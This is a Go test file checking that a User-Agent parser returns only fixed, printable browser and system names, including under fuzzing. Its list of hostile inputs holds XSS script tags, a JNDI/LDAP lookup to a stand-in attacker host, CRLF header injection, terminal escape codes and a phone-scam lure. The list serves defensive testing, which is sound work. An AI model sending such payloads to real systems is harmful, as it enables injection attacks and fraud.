package web

import (
	"os"
	"strings"
	"testing"
	"unicode"

	"github.com/medama-io/go-useragent"
)

// TestBrowsersAreRecognised: testdata/agents.tsv has User-Agents of 2024 to
// 2026 and what a person calls them.
func TestBrowsersAreRecognised(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile("testdata/agents.tsv")
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for line := range strings.Lines(string(text)) {
		want, ua, found := strings.Cut(strings.TrimSuffix(line, "\n"), "\t")
		if got := Agent(ua); got != want || !found {
			t.Errorf("%q, want %q: %s", got, want, ua)
		}
		seen++
	}
	if seen < 50 {
		t.Errorf("only %d User-Agents", seen)
	}
}

// hostileAgents are what no browser sends.
var hostileAgents = []string{
	"", " ", "\x00", "Mozilla", strings.Repeat("A", 100<<10), strings.Repeat("(", 100<<10), strings.Repeat("Chrome/1 ", 20<<10),
	strings.Repeat("\u00e9", 300), // the cut is within a letter
	"\x1b[2J\x1b]0;owned\x07Firefox/1.0", "Firefox/1.0\r\nSet-Cookie: a=b", "\u202exoferiF/1.0 \u202e", "\u200fChrome\u200f/1",
	"<script>alert(1)</script> Chrome/131.0 <img src=x onerror=alert(1)>", "curl/<b>", "\xff\xfe\xfd Firefox/\xff",
	"Mozilla/5.0 (Your account is locked, call +1 900 555) Chrome/131", "{{.Secret}} %s %n ${jndi:ldap://evil.example/a}",
	"Mozilla/5.0 (Windows NT 10.0; " + strings.Repeat("x", 600) + ") Firefox/133.0",
}

// TestAgentIsMadeOfOurWordsAlone: whatever is sent, what the owner of an
// account reads was written by us.
func TestAgentIsMadeOfOurWordsAlone(t *testing.T) {
	t.Parallel()
	for _, ua := range hostileAgents {
		expectOwnWords(t, ua)
	}
}

func FuzzAgentIsMadeOfOurWordsAlone(f *testing.F) {
	for _, ua := range hostileAgents {
		f.Add(ua)
	}
	f.Fuzz(func(t *testing.T, ua string) { expectOwnWords(t, ua) })
}

func expectOwnWords(t *testing.T, ua string) {
	t.Helper()
	browsers, systems := map[string]bool{"Unknown browser": true}, map[string]bool{"iPad": true}
	for _, name := range browserNames {
		browsers[name] = true
	}
	for _, o := range otherAgents {
		browsers[o.name] = true
	}
	for _, name := range systemNames {
		systems[name] = true
	}
	got := Agent(ua)
	browser, system, both := strings.Cut(got, " on ")
	if both && !(browsers[browser] && systems[system]) || !both && !browsers[got] && !systems[got] {
		t.Errorf("%q of %.80q", got, ua)
	}
	if len(got) > 60 || strings.ContainsFunc(got, func(c rune) bool { return !unicode.IsPrint(c) }) {
		t.Errorf("%q", got)
	}
	if got != Agent(ua) {
		t.Errorf("two answers for %.80q", ua)
	}
}

// TestEndOfALongAgentIsNotRead: its length costs nothing.
func TestEndOfALongAgentIsNotRead(t *testing.T) {
	t.Parallel()
	if got := Agent(strings.Repeat("-", maxAgent) + " curl/8"); got != "Unknown browser" {
		t.Error(got)
	}
}

func TestPanicOfTheLibraryIsAnUnknownBrowser(t *testing.T) {
	t.Parallel()
	browser, system := recognise("x", func(string) useragent.UserAgent { panic("index out of range") })
	if browser != "" || system != "" {
		t.Error(browser, system)
	}
}

func BenchmarkAgent(b *testing.B) {
	ua := "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36"
	b.ReportAllocs()
	for b.Loop() {
		Agent(ua)
	}
}
